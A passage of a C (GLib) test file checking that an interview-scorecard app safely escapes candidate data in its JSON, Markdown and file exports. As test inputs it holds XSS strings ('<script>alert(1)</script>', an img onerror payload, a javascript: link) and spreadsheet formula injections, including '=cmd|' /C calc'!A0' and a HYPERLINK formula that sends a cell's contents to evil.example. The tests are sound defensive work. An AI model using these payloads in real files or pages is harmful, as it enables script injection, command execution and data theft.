  g_assert_cmpstr (json_object_get_string_member (object, "notes"), ==, long_notes);

  removed = json_object_get_array_member (root, "no_longer_in_bank");
  g_assert_cmpuint (json_array_get_length (removed), ==, 3);
  for (guint i = 0; i < json_array_get_length (removed); i++)
    assert_json_entry (json_array_get_object_element (removed, i),
                       ivc_scorecard_get_removed (scorecard, i));
  object = json_array_get_object_element (removed, 1);
  g_assert_cmpstr (json_object_get_string_member (object, "id"), ==, "=gone|evil");
  g_assert_cmpstr (json_object_get_string_member (object, "notes"), ==, "'=already quoted");

  g_assert_finalize_object (g_steal_pointer (&scorecard));
  g_assert_finalize_object (g_steal_pointer (&again));
}

static void
test_json_no_bank (void)
{
  g_autoptr(IvcCandidate) candidate = ivc_candidate_new ("bo-12345678", "Bo");
  g_autoptr(IvcScorecard) scorecard = NULL;
  g_autoptr(JsonNode) node = NULL;
  g_autofree char *text = NULL;
  JsonObject *root, *object;
  JsonArray *removed;

  ivc_candidate_set_bank_id (candidate, "lost-bank");
  evaluate (candidate, "q", IVC_SCORE_GOOD, FALSE, "Kept", 10);
  scorecard = ivc_scorecard_new (candidate, NULL);
  text = export_string (scorecard, IVC_EXPORT_FORMAT_JSON);
  node = parse_json (text);
  root = json_node_get_object (node);

  g_assert_true (json_object_get_null_member (root, "interviewer"));
  g_assert_cmpstr (json_object_get_string_member (root, "recommendation"), ==, "none");
  g_assert_cmpstr (json_object_get_string_member (root, "summary"), ==, "");

  object = json_object_get_object_member (root, "bank");
  g_assert_cmpstr (json_object_get_string_member (object, "id"), ==, "lost-bank");
  g_assert_true (json_object_get_null_member (object, "title"));

  object = json_object_get_object_member (root, "totals");
  g_assert_cmpint (json_object_get_int_member (object, "n_questions"), ==, 0);
  g_assert_cmpint (json_object_get_int_member (object, "n_scored"), ==, 0);
  g_assert_cmpfloat (json_object_get_double_member (object, "coverage"), ==, 0.0);
  g_assert_true (json_object_get_null_member (object, "average"));

  g_assert_cmpuint (json_array_get_length (json_object_get_array_member (root, "levels")), ==, 0);
  removed = json_object_get_array_member (root, "no_longer_in_bank");
  g_assert_cmpuint (json_array_get_length (removed), ==, 1);
  object = json_array_get_object_element (removed, 0);
  g_assert_cmpstr (json_object_get_string_member (object, "id"), ==, "q");
  g_assert_true (json_object_get_null_member (object, "question"));
  g_assert_cmpint (json_object_get_int_member (object, "score"), ==, 3);
  g_assert_cmpstr (json_object_get_string_member (object, "notes"), ==, "Kept");

  g_assert_finalize_object (g_steal_pointer (&scorecard));
  g_assert_finalize_object (g_steal_pointer (&candidate));
}

static char *
source_path (const char *relative)
{
  const char *root = g_getenv ("IVC_SOURCE_ROOT");

  if (root == NULL)
    return g_test_build_filename (G_TEST_DIST, "..", relative, NULL);

  return g_build_filename (root, relative, NULL);
}

/* The example in docs/export-format.md is what the app writes. */
static void
test_json_docs_example (void)
{
  static const BankItem items[] = {
    { "junior", NULL, "Junior" },
    { NULL, "what-are-microservices", "What are microservices?" },
    { NULL, "why-each-service-owns-its-data", "Why should each service own its data?" },
  };
  g_autoptr(IvcQuestionBank) bank = make_bank ("microservices", "Microservices",
                                               items, G_N_ELEMENTS (items));
  g_autoptr(IvcCandidate) candidate = ivc_candidate_new ("zoe-martin-3f9a01c2", "Zoë Martin");
  g_autoptr(IvcScorecard) scorecard = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *path = source_path ("docs/export-format.md");
  g_autofree char *doc = NULL;
  g_autofree char *example = NULL;
  g_autofree char *text = NULL;
  g_auto(GStrv) parts = NULL;
  const char *start, *end;

  ivc_candidate_set_role (candidate, "Backend engineer");
  ivc_candidate_set_interview_date (candidate, "2024-05-01");
  ivc_candidate_set_bank_id (candidate, "microservices");
  ivc_candidate_set_recommendation (candidate, IVC_RECOMMENDATION_YES);
  ivc_candidate_set_summary (candidate, "Solid on resilience patterns.\nUnsure about data ownership.");
  ivc_candidate_set_interviewer (candidate, "ann-lee-5be04d11", "Ann Lee");
  ivc_candidate_set_interview_seconds (candidate, 2712);
  evaluate (candidate, "what-are-microservices", IVC_SCORE_STRONG, FALSE,
            "Clear answer, mentioned team ownership.", 185);
  evaluate (candidate, "why-each-service-owns-its-data", IVC_SCORE_MIXED, TRUE,
            "Would let two services write the same tables.", 240);
  evaluate (candidate, "retired-question", IVC_SCORE_GOOD, FALSE, "From the old bank.", 60);
  scorecard = ivc_scorecard_new (candidate, bank);

  g_file_get_contents (path, &doc, NULL, &error);
  g_assert_no_error (error);
  start = strstr (doc, "```json\n");
  g_assert_nonnull (start);
  start += strlen ("```json\n");
  end = strstr (start, "```\n");
  g_assert_nonnull (end);
  example = g_strndup (start, end - start);

  /* All but the version of the app. */
  text = export_string (scorecard, IVC_EXPORT_FORMAT_JSON);
  parts = g_strsplit (text, "\"generator\" : \"" PACKAGE_NAME " " PACKAGE_VERSION "\"", 2);
  g_assert_cmpuint (g_strv_length (parts), ==, 2);
  g_free (text);
  text = g_strjoinv ("\"generator\" : \"interview-companion 0.1.0\"", parts);
  g_assert_cmpstr (text, ==, example);

  g_assert_finalize_object (g_steal_pointer (&scorecard));
  g_assert_finalize_object (g_steal_pointer (&candidate));
  g_assert_finalize_object (g_steal_pointer (&bank));
}

/*
 * Markdown.
 */

/* Every Markdown special in @text is escaped, and every backslash escapes
 * one; a paragraph line may end in a lone backslash, a hard line break. */
static gboolean
is_escaped (const char *text,
            gsize       len,
            gboolean    may_break)
{
  for (gsize i = 0; i < len; i++)
    {
      if (text[i] == '\\')
        {
          if (i + 1 == len)
            return may_break;
          if (strchr (MD_SPECIALS, text[i + 1]) == NULL)
            return FALSE;
          i++;
        }
      else if (strchr (MD_SPECIALS, text[i]) != NULL)
        {
          return FALSE;
        }
    }

  return TRUE;
}

/* A time or an average the app writes itself, such as "1:02:05" or
 * "3.25": harmless where it stands, so left as it is. */
static gboolean
is_figure (const char *text,
           gsize       len)
{
  if (len == strlen ("—") && strncmp (text, "—", len) == 0)
    return TRUE;

  return len > 0 && strspn (text, "0123456789:.") >= len;
}

#define assert_escaped(line, text, len, may_break)              \
  G_STMT_START {                                                \
    if (!is_escaped ((text), (len), (may_break)) &&             \
        !is_figure ((text), (len)))                             \
      g_assert_cmpstr ((line), ==, "(escaped)");                \
  } G_STMT_END

/* Reads the document the way a Markdown renderer would see its blocks:
 * headings, list items "- **Label:** value", table rows and paragraphs.
 * Whatever the text inside them is, it must not be markup. */
static void
assert_markdown_is_safe (const char *markdown)
{
  g_auto(GStrv) lines = g_strsplit (markdown, "\n", -1);

  /* Line ends are LF only. */
  g_assert_null (strchr (markdown, '\r'));

  for (guint i = 0; lines[i]; i++)
    {
      const char *line = lines[i];
      gsize len = strlen (line);

      /* No indented code, no lazy continuation of something else. */
      g_assert_false (line[0] == ' ' || line[0] == '\t');

      if (len == 0)
        continue;

      if (line[0] == '#')
        {
          gsize hashes = strspn (line, "#");

          g_assert_cmpuint (hashes, <=, 4);
          g_assert_cmpint (line[hashes], ==, ' ');
          assert_escaped (line, line + hashes + 1, len - hashes - 1, FALSE);
        }
      else if (g_str_has_prefix (line, "- **"))
        {
          const char *end = strstr (line, ":** ");

          g_assert_nonnull (end);
          assert_escaped (line, line + 4, end - line - 4, FALSE);
          assert_escaped (line, end + 4, strlen (end + 4), FALSE);
        }
      else if (line[0] == '|')
        {
          g_assert_true (g_str_has_suffix (line, " |"));

          /* The alignment row. */
          if (strspn (line, "| -:") == len)
            continue;

          /* Cells are between unescaped bars. */
          for (gsize start = 1, j = 1; j < len; j++)
            {
              if (line[j] == '\\')
                j++;
              else if (line[j] == '|')
                {
                  g_assert_cmpint (line[start], ==, ' ');
                  g_assert_cmpint (line[j - 1], ==, ' ');
                  assert_escaped (line, line + start + 1, j - start - 2, FALSE);
                  start = j + 1;
                }
            }
        }
      else
        {
          assert_escaped (line, line, len, TRUE);
        }
    }
}

/* The text a renderer shows: escapes removed, hard breaks as new lines. */
static char *
unescape_markdown (const char *markdown)
{
  GString *out = g_string_new (NULL);

  for (const char *p = markdown; *p; p++)
    {
      if (p[0] == '\\' && p[1] != '\0' && strchr (MD_SPECIALS, p[1]) != NULL)
        p++;
      else if (p[0] == '\\' && p[1] == '\n')
        continue;
      g_string_append_c (out, *p);
    }

  return g_string_free (out, FALSE);
}

static void
test_markdown (void)
{
  g_autoptr(IvcScorecard) scorecard = make_hostile_scorecard ();
  g_autofree char *md = export_string (scorecard, IVC_EXPORT_FORMAT_MARKDOWN);
  g_autofree char *text = unescape_markdown (md);
  g_autofree char *again = NULL;

  assert_markdown_is_safe (md);

  /* Nothing that a renderer would take as HTML, a link or a heading. */
  assert_not_contains (md, "<script>");
  assert_only_escaped (md, "<img");
  assert_not_contains (md, "<b>");
  assert_not_contains (md, "<i>");
  assert_not_contains (md, "](javascript");
  assert_not_contains (md, "\n# title");
  assert_not_contains (md, "\n# Not a heading");
  assert_not_contains (md, "\n1. item");
  assert_not_contains (md, "\n> quote");
  assert_not_contains (md, "\n===");
  assert_not_contains (md, "\n---");
  assert_not_contains (md, "**bold**");
  assert_contains (md, "\\<script\\>alert\\(1\\)\\</script\\>");
  assert_contains (md, "\n\\# title\\\n");
  assert_contains (md, "\\*\\*bold\\*\\*");
  assert_contains (md, "\\\\ back");

  /* The structure: one title, then the sections in order. */
  g_assert_true (g_str_has_prefix (md, "# Scorecard\\: \\=HYPERLINK\\(\"http\\://evil\\.example/?\"\\&A1,\"Zoë\"\\) 中文 🎉\n"));
  assert_contains (md, "\n## Recommendation\n\nStrong yes\n");
  assert_contains (md, "\n- **Question bank:** \\<b\\>Hostile\\</b\\> bank \\(hostile\\)\n");
  assert_contains (md, "\n- **Interview time:** 1:02:05\n");
  assert_contains (md, "\n- **Questions scored:** 7 of 9 \\(77%\\)\n");
  assert_contains (md, "\n- **Average score:** 2\\.71 of 4\n");
  assert_contains (md, "\n- **Red flags observed:** 3\n");
  assert_contains (md, "\n- **Interviewer:** \\-Ann\tLee\n");
  g_assert_true (strstr (md, "\n## Summary\n") < strstr (md, "\n## Levels\n"));
  g_assert_true (strstr (md, "\n## Levels\n") < strstr (md, "\n## Questions\n"));
  g_assert_true (strstr (md, "\n## Questions\n") < strstr (md, "\n## No longer in the bank\n"));

  /* Table cells: one line, bars escaped. */
  assert_contains (md, "\n| \\=Junior \\| \\<i\\>one\\</i\\> second line | 4 | 3 | 2.33 | 2 | 1 | 1 | 0 | 1 | 1 | 1:01:06 |\n");

  /* Per question. */
  assert_contains (md, "\n#### \\=1\\+1\n\n- **Question id:** q\\-eq\n- **Score:** Strong \\(4 of 4\\)\n"
                       "- **Red flag observed:** No\n- **Time:** 0:01:01\n\n\\=cmd\\|' /C calc'\\!A0\n");
  /* The question as it reads: its Markdown's emphasis is not shown as
   * escaped asterisks. */
  assert_contains (md, "\n#### What is \\<b\\>HTML\\</b\\> \\| \\# and this?\n");
  assert_contains (md, "\n#### \tTabbed question?\n");
  assert_contains (md, "\n#### \\-2\\+3\n");

  /* Lines of notes are lines, blank lines paragraphs; indentation goes. */
  assert_contains (md, "\n\\@mention\\\nCRLF\\\nLF\\\nCR\n");
  assert_contains (md, "\n\\<img src\\=x onerror\\=alert\\(1\\)\\>\n\nLast paragraph, ending in a backslash \\\\\n");
  assert_contains (md, "\nindented code\\\n");

  /* What was typed is all there. */
  assert_contains (text, UNICODE_TEXT);
  assert_contains (text, "\n# title\n<script>alert(1)</script>\n**bold** _it_ [x](javascript:alert(1))");
  assert_contains (text, "\n=cmd|' /C calc'!A0\n");
  assert_contains (text, "\n#### =gone|evil\n");
  assert_contains (text, "\n# Removed <script>x</script>\n");
  assert_contains (text, "\n'=already quoted\n");
  g_assert_cmpuint (strlen (md), >, IVC_EVALUATION_MAX_NOTES_CHARS);

  /* The same scorecard, the same text. */
  again = export_string (scorecard, IVC_EXPORT_FORMAT_MARKDOWN);
  g_assert_cmpstr (md, ==, again);

  g_assert_finalize_object (g_steal_pointer (&scorecard));
}

static void
test_markdown_minimal (void)
{
  g_autoptr(IvcCandidate) candidate = ivc_candidate_new ("bo-12345678", "");
  g_autoptr(IvcScorecard) scorecard = ivc_scorecard_new (candidate, NULL);
  g_autofree char *md = export_string (scorecard, IVC_EXPORT_FORMAT_MARKDOWN);

  assert_markdown_is_safe (md);
  g_assert_true (g_str_has_prefix (md, "# Scorecard\\: Unnamed candidate\n"));
  assert_contains (md, "\n- **Question bank:** None\n");
  assert_contains (md, "\n- **Average score:** No scores yet\n");
  assert_contains (md, "\n- **Questions scored:** 0 of 0\n");
  assert_contains (md, "\n## Summary\n\nNo summary\\.\n");
  assert_not_contains (md, "## Levels");
  assert_not_contains (md, "## No longer in the bank");

  g_assert_finalize_object (g_steal_pointer (&scorecard));
  g_assert_finalize_object (g_steal_pointer (&candidate));
}

/*
 * Files.
 */

typedef struct
{
  char         *dir;
  IvcScorecard *scorecard;
  GMainLoop    *loop;
  GAsyncResult *result;
} Fixture;

static void
fixture_setup (Fixture       *fixture,
               gconstpointer  data)
{
  g_autoptr(GError) error = NULL;

  fixture->dir = g_dir_make_tmp ("test-export-XXXXXX", &error);
  g_assert_no_error (error);
  fixture->scorecard = make_hostile_scorecard ();
}

static void
fixture_teardown (Fixture       *fixture,
                  gconstpointer  data)
{
  g_autoptr(GDir) dir = g_dir_open (fixture->dir, 0, NULL);
  const char *name;

  while (dir != NULL && (name = g_dir_read_name (dir)) != NULL)
    {
      g_autofree char *path = g_build_filename (fixture->dir, name, NULL);
      g_assert_no_errno (g_unlink (path));
    }
  g_assert_no_errno (g_rmdir (fixture->dir));

  g_assert_finalize_object (g_steal_pointer (&fixture->scorecard));
  g_clear_pointer (&fixture->dir, g_free);
}

static void
assert_file_is_export (Fixture         *fixture,
                       const char      *path,
                       IvcExportFormat  format)
{
  g_autoptr(GBytes) expected = ivc_export_to_bytes (fixture->scorecard, format);
  g_autoptr(GError) error = NULL;
  g_autofree char *contents = NULL;
  gsize len;
  GStatBuf st;

  g_file_get_contents (path, &contents, &len, &error);
  g_assert_no_error (error);
  g_assert_cmpmem (contents, len, g_bytes_get_data (expected, NULL), g_bytes_get_size (expected));

  g_assert_no_errno (g_stat (path, &st));
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);
}

static void
test_write (Fixture       *fixture,
            gconstpointer  data)
{
  g_autofree char *path = g_build_filename (fixture->dir, "scorecard.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;

  g_assert_true (ivc_export_write_to_file (fixture->scorecard, IVC_EXPORT_FORMAT_CSV,
                                           file, NULL, &error));
  g_assert_no_error (error);
  assert_file_is_export (fixture, path, IVC_EXPORT_FORMAT_CSV);

  /* Replacing an existing file, here with shorter contents. */
  g_assert_true (ivc_export_write_to_file (fixture->scorecard, IVC_EXPORT_FORMAT_JSON,
                                           file, NULL, &error));
  g_assert_no_error (error);
  assert_file_is_export (fixture, path, IVC_EXPORT_FORMAT_JSON);
}

static void
test_write_error (Fixture       *fixture,
                  gconstpointer  data)
{
  g_autofree char *path = g_build_filename (fixture->dir, "missing-folder", "scorecard.md", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;

  g_assert_false (ivc_export_write_to_file (fixture->scorecard, IVC_EXPORT_FORMAT_MARKDOWN,
                                            file, NULL, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
  assert_contains (error->message, path);
  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
}

static void
write_cb (GObject      *object,
          GAsyncResult *result,
          gpointer      user_data)
{
  Fixture *fixture = user_data;

  fixture->result = g_object_ref (result);
  g_main_loop_quit (fixture->loop);
}

static void
test_write_async (Fixture       *fixture,
                  gconstpointer  data)
{
  g_autofree char *path = g_build_filename (fixture->dir, "scorecard.md", NULL);
  g_autofree char *bad_path = g_build_filename (fixture->dir, "missing-folder", "scorecard.md", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GFile) bad_file = g_file_new_for_path (bad_path);
  g_autoptr(GError) error = NULL;

  fixture->loop = g_main_loop_new (NULL, FALSE);

  ivc_export_write_to_file_async (fixture->scorecard, IVC_EXPORT_FORMAT_MARKDOWN,
                                  file, NULL, write_cb, fixture);
  g_main_loop_run (fixture->loop);
  g_assert_true (ivc_export_write_to_file_finish (fixture->result, &error));
  g_assert_no_error (error);
  g_clear_object (&fixture->result);
  assert_file_is_export (fixture, path, IVC_EXPORT_FORMAT_MARKDOWN);

  ivc_export_write_to_file_async (fixture->scorecard, IVC_EXPORT_FORMAT_MARKDOWN,
                                  bad_file, NULL, write_cb, fixture);
  g_main_loop_run (fixture->loop);
  g_assert_false (ivc_export_write_to_file_finish (fixture->result, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
  assert_contains (error->message, bad_path);
  g_clear_object (&fixture->result);

  g_clear_pointer (&fixture->loop, g_main_loop_unref);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/ivc/export/format", test_format);
  g_test_add_func ("/ivc/export/file-name", test_file_name);
  g_test_add_func ("/ivc/export/csv/hostile", test_csv);
  g_test_add_func ("/ivc/export/csv/any-separator", test_csv_any_separator);
  g_test_add_func ("/ivc/export/csv/examples", test_csv_examples);
  g_test_add_func ("/ivc/export/csv/empty", test_csv_empty);
  g_test_add_func ("/ivc/export/json/hostile", test_json);
  g_test_add_func ("/ivc/export/json/no-bank", test_json_no_bank);
  g_test_add_func ("/ivc/export/json/docs-example", test_json_docs_example);
  g_test_add_func ("/ivc/export/markdown/hostile", test_markdown);
  g_test_add_func ("/ivc/export/markdown/minimal", test_markdown_minimal);

  g_test_add ("/ivc/export/file/write", Fixture, NULL,
              fixture_setup, test_write, fixture_teardown);
  g_test_add ("/ivc/export/file/error", Fixture, NULL,
              fixture_setup, test_write_error, fixture_teardown);
  g_test_add ("/ivc/export/file/async", Fixture, NULL,
              fixture_setup, test_write_async, fixture_teardown);

  return g_test_run ();
}
